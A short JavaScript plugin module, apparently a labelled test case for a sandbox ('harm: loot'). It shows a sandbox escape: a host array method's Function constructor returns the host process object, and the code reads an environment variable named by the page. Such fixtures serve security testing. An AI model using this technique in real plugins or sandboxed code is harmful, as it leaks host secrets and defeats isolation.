// A method of the list of data files is a function of the host's.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'data-files', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'data-files' } } } },
  run(context, secrets, dataFiles) {
    const take = dataFiles.flatMap.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
